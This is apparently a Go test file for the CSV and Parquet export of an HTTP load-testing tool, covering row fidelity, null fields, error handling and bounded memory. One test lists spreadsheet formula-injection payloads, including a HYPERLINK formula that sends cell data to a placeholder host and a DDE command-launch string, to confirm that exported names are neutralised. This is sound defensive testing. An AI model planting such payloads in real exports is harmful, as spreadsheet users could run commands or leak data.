package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/parquet-go/parquet-go"

	"github.com/splitbench/splitbench/attack"
)

func tabulated(t *testing.T, begin func(io.Writer) *Table, f Facts, results samples) []byte {
	t.Helper()
	var b bytes.Buffer
	table := begin(&b)
	if err := table.Add(f, results); err != nil {
		t.Fatal(err)
	}
	if err := table.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Both formats hold the same rows under the same names, and what was measured can be had back from them.
func TestTablesHoldEverySample(t *testing.T) {
	t.Parallel()
	file := tabulated(t, NewParquet, facts, seq(burst()))
	rows, err := parquet.Read[Row](bytes.NewReader(file), int64(len(file)))
	if err != nil || len(rows) != requests {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	lines, err := csv.NewReader(bytes.NewReader(tabulated(t, NewCSV, facts, seq(burst())))).ReadAll()
	if err != nil || len(lines) != requests+1 {
		t.Fatalf("%d lines: %v", len(lines), err)
	}
	var names []string
	for _, path := range parquet.SchemaOf(Row{}).Columns() {
		names = append(names, strings.Join(path, "."))
	}
	if diff := cmp.Diff(names, lines[0]); diff != "" {
		t.Errorf("names of columns, -Parquet +CSV:\n%s", diff)
	}
	began := facts.Started.UnixNano()
	for i, r := range burst() {
		got := rows[i]
		if diff := cmp.Diff(got.cells(), lines[i+1]); diff != "" {
			t.Fatalf("row %d, -Parquet +CSV:\n%s", i, diff)
		}
		back := attack.Result{
			Seq: uint64(got.Seq), Planned: time.Duration(got.Planned - began), Sent: time.Duration(got.Sent - began),
			Done: time.Duration(got.Done - began), Status: uint16(got.StatusCode), Conn: attack.UnknownConn, Backend: attack.Unattributed,
			Err: r.Err,
		}
		if got.FirstByte != 0 {
			back.FirstByte = time.Duration(got.FirstByte - began)
		}
		if got.Connection != nil {
			back.Conn = *got.Connection
		}
		for i, name := range facts.Backends {
			if got.Backend == name {
				back.Backend = int16(i)
			}
		}
		if (got.Error != "") != (r.Err != attack.OK) || r.Err != attack.OK && got.Error != r.Err.String() {
			t.Errorf("row %d: error %q, want %s", i, got.Error, r.Err)
		}
		if diff := cmp.Diff(r, back); diff != "" {
			t.Fatalf("row %d:\n%s", i, diff)
		}
	}
}

// A run of several bursts is one file; what does not apply to a burst is null in its rows.
func TestTableOfBurstsAndPods(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	table := NewCSV(&b)
	first, second := facts, facts
	first.Target, first.Round, first.Backends = "svc/podinfo", 1, nil
	second.Pods = []string{"frontend-a", "frontend-b"}
	answer := attack.Result{Seq: 3, Planned: 1, Sent: 2, FirstByte: 3, Done: 4, Status: 200, Backend: attack.Unattributed}
	for _, f := range []Facts{first, second} {
		if err := table.Add(f, seq([]attack.Result{answer})); err != nil {
			t.Fatal(err)
		}
	}
	if err := table.Close(); err != nil {
		t.Fatal(err)
	}
	const instants = "2026-11-22T07:15:02.000000001Z,2026-11-22T07:15:02.000000002Z,2026-11-22T07:15:02.000000003Z," +
		"2026-11-22T07:15:02.000000004Z,0,200,,3,2\n"
	want := strings.Join(columns(), ",") + "\n3,svc/podinfo,1,,," + instants + "3,,,frontend-b,," + instants
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}

// Names come from clusters and from run folders of strangers: none may be a formula in a spreadsheet, or end its cell.
func TestCSVNamesAreInert(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
		"+1+cmd|' /C calc'!A0":        "'+1+cmd|' /C calc'!A0",
		"-2+3":                        "'-2+3",
		"@SUM(A1)":                    "'@SUM(A1)",
		"\t=1":                        "'\t=1",
		"\r=1":                        "'\r=1",
		"\n=1":                        "'\n=1",
		"＝1+1":                        "'＝1+1",
		"＠x":                          "'＠x",
		"a\n=1":                       "a\n=1", // one cell, and no formula
		`a","=1`:                      `a","=1`,
		"podinfo-east":                "podinfo-east",
	} {
		f := facts
		f.Backends = []string{name}
		lines, err := csv.NewReader(bytes.NewReader(tabulated(t, NewCSV, f, seq([]attack.Result{{Done: 1}})))).ReadAll()
		if err != nil || len(lines) != 2 {
			t.Fatalf("%q: %d lines: %v", name, len(lines), err)
		}
		if cell := lines[1][4]; cell != want {
			t.Errorf("%q is in the file as %q, want %q", name, cell, want)
		}
		file := tabulated(t, NewParquet, f, seq([]attack.Result{{Done: 1}}))
		rows, err := parquet.Read[Row](bytes.NewReader(file), int64(len(file)))
		if err != nil || rows[0].Backend != name {
			t.Errorf("%q is in Parquet as %q: %v", name, rows[0].Backend, err)
		}
	}
}

func TestTableErrors(t *testing.T) {
	t.Parallel()
	late, lost := facts, facts
	late.Started, lost.Backends = time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC), nil
	one := seq([]attack.Result{{Done: 1}})
	for name, c := range map[string]struct {
		facts   Facts
		results samples
		out     io.Writer
		want    error
	}{
		"a time that cannot be said":  {late, one, io.Discard, ErrOptions},
		"a backend that nobody knows": {lost, one, io.Discard, ErrSamples},
		"the reader":                  {facts, func(yield func(attack.Result, error) bool) { yield(attack.Result{}, io.ErrUnexpectedEOF) }, io.Discard, io.ErrUnexpectedEOF},
		"the writer":                  {facts, seq(burst()), full{}, errFull},
	} {
		for _, begin := range []func(io.Writer) *Table{NewCSV, NewParquet} {
			table := begin(c.out)
			err := table.Add(c.facts, c.results)
			if err == nil {
				err = table.Close()
			}
			if !errors.Is(err, c.want) {
				t.Errorf("%s: %v, want %v", name, err, c.want)
			}
		}
	}
}

// A run of any length is written in a memory that does not grow with it: three row groups take no more than one.
func TestTableMemoryIsBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("short: a million rows are written")
	}
	for name, begin := range map[string]func(io.Writer) *Table{"CSV": NewCSV, "Parquet": NewParquet} {
		peak := func(rows uint64) (most uint64) {
			runtime.GC()
			table := begin(io.Discard)
			err := table.Add(facts, func(yield func(attack.Result, error) bool) {
				for i := range rows {
					at := time.Duration(i) * time.Millisecond
					if i%50_000 == 0 {
						runtime.GC()
						var m runtime.MemStats
						runtime.ReadMemStats(&m)
						most = max(most, m.HeapAlloc)
					}
					sent, done := at+time.Duration(i*7919%1000), at+time.Duration(i*104_729%1_000_000)
					r := attack.Result{Seq: i, Planned: at, Sent: sent, Done: done, Backend: int16(i % 2)}
					if !yield(r, nil) {
						return
					}
				}
			})
			if err = errors.Join(err, table.Close()); err != nil {
				t.Fatal(err)
			}
			return most
		}
		one, three := peak(rowGroup), peak(3*rowGroup)
		t.Logf("%s: %d KiB for one row group, %d for three", name, one>>10, three>>10)
		if three > one+one/4+4<<20 {
			t.Errorf("%s: %d rows take %d KiB, %d take %d", name, rowGroup, one>>10, 3*rowGroup, three>>10)
		}
	}
}
